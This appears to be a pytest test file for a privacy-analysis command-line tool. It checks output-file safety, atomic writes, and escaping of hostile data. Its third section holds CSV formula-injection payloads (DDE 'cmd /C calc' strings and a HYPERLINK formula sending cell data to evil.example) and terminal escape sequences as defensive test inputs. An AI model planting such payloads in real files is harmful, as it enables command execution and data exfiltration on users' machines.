"""What the commands write (issue 22, items 1-3): an output never overwrites an input nor
the other output (exit 2, one line naming both paths); ``report``'s HTML and risk table are
one unit (Ctrl-C or a full disk leave both old files byte for byte, exit 130 or 4); the
risk CSV neutralizes formula cells unless ``--raw-csv``; data printed on the terminal has
its control characters escaped and long values cut.
"""

from __future__ import annotations

import errno
import os
from pathlib import Path

import pytest

from maxent_privacy import datasets
from maxent_privacy.cli import EXIT_INPUT, EXIT_INTERRUPTED, EXIT_OK, EXIT_OUTPUT, main

ROLES = ["--qi", "gender", "degree", "--sa", "disease", "--group", "bucket"]


@pytest.fixture
def here(tmp_path, monkeypatch) -> Path:
    """A folder holding the release ``in.csv`` (Figure 1), the current folder."""
    monkeypatch.chdir(tmp_path)
    datasets.du2008_figure1().to_csv(tmp_path / "in.csv", index=False)
    return tmp_path


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file of the folder (links as their target's bytes), by name."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def refused(capsys, folder: Path, before: dict, *names: str) -> str:
    """The command was refused with exit 2: one error line naming the paths, no file
    changed or added."""
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: ") and "\n" not in err, err
    for name in names:
        assert name in err, (name, err)
    assert snapshot(folder) == before
    return err


# ------------------------------------------------------------------ 1. inputs are sacred
def test_report_risk_out_is_the_release(here, capsys):
    before = snapshot(here)
    assert main(["report", "in.csv", *ROLES, "--risk-out", "in.csv"]) == EXIT_INPUT
    err = refused(capsys, here, before, "--risk-out in.csv", "the release in.csv")
    assert "never overwrites an input" in err


def test_report_risk_out_is_a_link_to_the_release(here, capsys):
    (here / "link.csv").symlink_to("in.csv")
    before = snapshot(here)
    assert main(["report", "in.csv", *ROLES, "--risk-out", "link.csv"]) == EXIT_INPUT
    err = refused(capsys, here, before, "link.csv", "in.csv")
    assert "resolves to" in err
    assert (here / "link.csv").is_symlink()


def test_report_risk_out_is_the_second_release(here, capsys):
    frame = datasets.du2008_figure1()
    frame.to_csv(here / "r1.csv", index=False)
    frame.to_csv(here / "r2.csv", index=False)
    before = snapshot(here)
    argv = ["report", "r1.csv", "r2.csv", *ROLES, "--person", "name", "--risk-out", "r2.csv"]
    assert main(argv) == EXIT_INPUT
    refused(capsys, here, before, "--risk-out r2.csv", "r2.csv")


def test_report_risk_out_is_the_knowledge_file(here, capsys):
    (here / "facts.csv").write_text('P(disease = "Flu" | gender = "male") = 0.5\n')
    before = snapshot(here)
    argv = ["report", "in.csv", *ROLES, "--knowledge", "facts.csv", "--risk-out", "facts.csv"]
    assert main(argv) == EXIT_INPUT
    refused(capsys, here, before, "--risk-out facts.csv", "the knowledge file facts.csv")


def test_report_out_is_a_release_named_html(here, capsys):
    (here / "in.csv").rename(here / "data.html")  # a CSV release whose name ends in .html
    before = snapshot(here)
    assert main(["report", "data.html", *ROLES, "--out", "data.html"]) == EXIT_INPUT
    refused(capsys, here, before, "--out data.html", "the release data.html")


def test_report_default_out_is_the_release(here, capsys):
    (here / "in.csv").rename(here / "report.html")
    before = snapshot(here)
    assert main(["report", "report.html", *ROLES]) == EXIT_INPUT  # --out defaults to it
    refused(capsys, here, before, "--out (default) report.html", "the release report.html")


def test_analyze_out_is_the_release(here, capsys):
    before = snapshot(here)
    assert main(["analyze", "in.csv", *ROLES, "--out", "in.csv"]) == EXIT_INPUT
    refused(capsys, here, before, "--out in.csv", "the release in.csv")


def test_analyze_out_is_the_population(here, capsys):
    (here / "gen.csv").write_text("pid,age,disease,g\n1,[20-29],Flu,1\n2,[20-29],HIV,1\n")
    (here / "pop.csv").write_text("pid,age\n1,23\n2,27\n")
    before = snapshot(here)
    argv = ["analyze", "gen.csv", "--qi", "age", "--sa", "disease", "--group", "g"]
    assert main([*argv, "--population", "pop.csv", "--out", "pop.csv"]) == EXIT_INPUT
    refused(capsys, here, before, "--out pop.csv", "the population file pop.csv")
    # the same command writing elsewhere works: the refusal was the only fault
    assert main([*argv, "--population", "pop.csv", "--out", "post.csv"]) == EXIT_OK
    assert (here / "post.csv").read_text().startswith("age,")


def test_report_risk_out_is_the_population(here, capsys):
    (here / "gen.csv").write_text("pid,age,disease,g\n1,[20-29],Flu,1\n2,[20-29],HIV,1\n")
    (here / "pop.csv").write_text("pid,age\n1,23\n2,27\n")
    before = snapshot(here)
    argv = ["report", "gen.csv", "--qi", "age", "--sa", "disease", "--group", "g"]
    assert main([*argv, "--population", "pop.csv", "--risk-out", "pop.csv"]) == EXIT_INPUT
    refused(capsys, here, before, "--risk-out pop.csv", "the population file pop.csv")


def test_report_out_and_risk_out_are_one_file(here, capsys):
    (here / "risk.csv").symlink_to("out.html")  # not there yet: the link dangles
    before = snapshot(here)
    argv = ["report", "in.csv", *ROLES, "--out", "out.html", "--risk-out", "risk.csv"]
    assert main(argv) == EXIT_INPUT
    err = refused(capsys, here, before, "--out out.html", "--risk-out risk.csv")
    assert "one file" in err
    assert not (here / "out.html").exists()


def test_report_hard_link_to_the_release_is_refused(here, capsys):
    os.link(here / "in.csv", here / "copy.csv")
    before = snapshot(here)
    assert main(["report", "in.csv", *ROLES, "--risk-out", "copy.csv"]) == EXIT_INPUT
    refused(capsys, here, before, "copy.csv", "in.csv")


def test_library_writers_refuse_their_inputs(here):
    import pandas as pd

    from maxent_privacy import Bucketized, MaxEntModel
    from maxent_privacy.errors import SameFileError
    from maxent_privacy.report import write_risk_table

    frame = pd.read_csv("in.csv", dtype=str)
    release = Bucketized(frame, qi=["gender", "degree"], sa="disease", group="bucket")
    result = MaxEntModel(release).solve()
    before = snapshot(here)
    with pytest.raises(SameFileError, match="in.csv"):
        result.report("in.csv", sources=["in.csv"])
    with pytest.raises(SameFileError, match="in.csv"):
        result.report("in.csv", inputs=["in.csv"])
    with pytest.raises(SameFileError, match="in.csv"):
        write_risk_table(result, "in.csv", inputs=["in.csv"])
    assert snapshot(here) == before
    write_risk_table(result, "risk.csv", inputs=["in.csv"])  # old signature and new: both fine
    write_risk_table(result, "risk2.csv", 0.5)
    result.report("r.html", 0.5)
    assert {"risk.csv", "risk2.csv", "r.html"} <= set(snapshot(here))


# ------------------------------------------------------------------ 2. outputs as one unit
@pytest.fixture
def old_outputs(here) -> dict[str, bytes]:
    (here / "out.html").write_bytes(b"<html>the old report</html>\n")
    (here / "risk.csv").write_bytes(b"name,maxent\nthe old,table\n")
    return snapshot(here)


REPORT = ["report", "in.csv", *ROLES, "--out", "out.html", "--risk-out", "risk.csv"]


def test_ctrl_c_after_the_first_file_is_renamed_keeps_both_old_files(
    here, old_outputs, monkeypatch, capsys
):
    real = os.replace
    renamed = []

    def replace(src, dst):
        real(src, dst)
        renamed.append(os.path.basename(dst))
        if len(renamed) == 1:
            raise KeyboardInterrupt  # Ctrl-C with one new file in place

    monkeypatch.setattr(os, "replace", replace)
    assert main(REPORT) == EXIT_INTERRUPTED
    assert renamed[0] in ("out.html", "risk.csv")
    assert snapshot(here) == old_outputs  # byte for byte, and no temporary file
    assert "interrupted" in capsys.readouterr().err


def test_disk_full_writing_the_second_file_keeps_both_old_files(
    here, old_outputs, monkeypatch, capsys
):
    real = os.fsync
    calls = []

    def fsync(fd):
        calls.append(fd)
        if len(calls) == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    assert main(REPORT) == EXIT_OUTPUT
    err = capsys.readouterr().err
    assert "No space left on device" in err and "error: cannot write" in err
    assert snapshot(here) == old_outputs


def test_an_internal_error_while_writing_keeps_both_old_files(
    here, old_outputs, monkeypatch, capsys
):
    from maxent_privacy import files

    real = files._write_temp
    calls = []

    def broken(target, data):
        calls.append(target)
        if len(calls) == 2:
            raise RuntimeError("a bug while writing")
        return real(target, data)

    monkeypatch.setattr(files, "_write_temp", broken)
    assert main(REPORT) == 1
    assert "a bug while writing" in capsys.readouterr().err
    assert snapshot(here) == old_outputs


def test_report_writes_both_files(here, old_outputs, capsys):
    assert main(REPORT) == EXIT_OK
    now = snapshot(here)
    assert now["out.html"].startswith(b"<!DOCTYPE html>") or b"<html" in now["out.html"][:200]
    assert now["risk.csv"].startswith(b"gender,degree,bucket,records,value,maxent")
    assert sorted(now) == sorted(old_outputs)


# ------------------------------------------------------------------ 3. data never becomes code
HOSTILE = {
    "Allen": "=cmd|' /C calc'!A0",
    "Brian": "+1+cmd|' /C calc'!A0",
    "Cathy": "-2+3+cmd|' /C calc'!A0",
    "David": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Ethan": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "Frank": "-7",  # a plain number: left as it is
}


@pytest.fixture
def hostile(here) -> Path:
    frame = datasets.du2008_figure1()
    frame["name"] = frame["name"].replace(HOSTILE)
    frame.loc[frame["name"] == "Grace", "disease"] = "=1+2"
    frame.loc[frame["name"] == "Helen", "disease"] = "=1+2"
    frame.to_csv(here / "evil.csv", index=False)
    return here / "evil.csv"


def risk_cells(path: Path):
    import pandas as pd

    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.mark.parametrize("original", list(HOSTILE))
def test_risk_csv_neutralizes_formula_ids(hostile, original, capsys):
    argv = ["report", "evil.csv", *ROLES, "--person", "name", "--risk-out", "risk.csv"]
    assert main(argv) == EXIT_OK
    names = set(risk_cells(Path("risk.csv"))["name"])
    value = HOSTILE[original]
    if value == "-7":
        assert "-7" in names
    else:
        assert "'" + value in names and value not in names


def test_risk_csv_neutralizes_formula_values_but_not_numbers(hostile, capsys):
    argv = ["report", "evil.csv", *ROLES, "--person", "name", "--risk-out", "risk.csv"]
    assert main(argv) == EXIT_OK
    table = risk_cells(Path("risk.csv"))
    assert "'=1+2" in set(table["value"]) and "=1+2" not in set(table["value"])
    assert not any(v.startswith("'") for v in table["maxent"])  # numbers stay numbers
    assert "'" not in "".join(table.columns)


def test_raw_csv_keeps_the_cells(hostile, capsys):
    argv = ["report", "evil.csv", *ROLES, "--person", "name", "--risk-out", "risk.csv"]
    assert main([*argv, "--raw-csv"]) == EXIT_OK
    table = risk_cells(Path("risk.csv"))
    assert set(HOSTILE.values()) <= set(table["name"])
    assert "=1+2" in set(table["value"])


def test_help_documents_raw_csv(capsys):
    with pytest.raises(SystemExit):
        main(["report", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "--raw-csv" in text and "formula" in text


def test_terminal_output_escapes_control_characters_and_cuts_long_ids(here, capsys):
    frame = datasets.du2008_figure1()
    frame.loc[0, "name"] = "Eve\x1b[2J\x07"
    frame.loc[1, "name"] = "X" * 1_000_000
    frame.loc[2, "disease"] = "Flu\x1b]0;pwned\x07"
    frame.to_csv(here / "ctl.csv", index=False)
    argv = ["report", "ctl.csv", *ROLES, "--person", "name", "--threshold", "0.3"]
    assert main([*argv, "--risk-out", "risk.csv"]) == EXIT_OK
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "Eve\\x1b[2J\\x07" in out
    assert "X" * 81 not in out and "more characters" in out
    assert len(out) < 5000
    assert main(["analyze", "ctl.csv", *ROLES, "--person", "name"]) == EXIT_OK
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "X" * 81 not in out


def test_error_messages_escape_control_characters(here, capsys):
    assert main(["report", "in.csv", *ROLES[:-1], "grp\x1b[31m"]) == EXIT_INPUT
    err = capsys.readouterr().err
    assert "\x1b" not in err and "grp\\x1b[31m" in err


def test_plain_escapes_and_cuts():
    from maxent_privacy.cli.terminal import escape_controls, plain

    assert plain("a\x1bb\x07c\u202ed\ne") == "a\\x1bb\\x07c\\u202ed\\x0ae"
    assert plain("x" * 1_000_000, 10) == "x" * 10 + "... (999,990 more characters)"
    assert plain("\x1b" * 10, 8) == "\\x1b\\x1b... (8 more characters)"
    assert escape_controls("line\n\ttab\x1b[0m\r") == "line\n\ttab\\x1b[0m\\x0d"
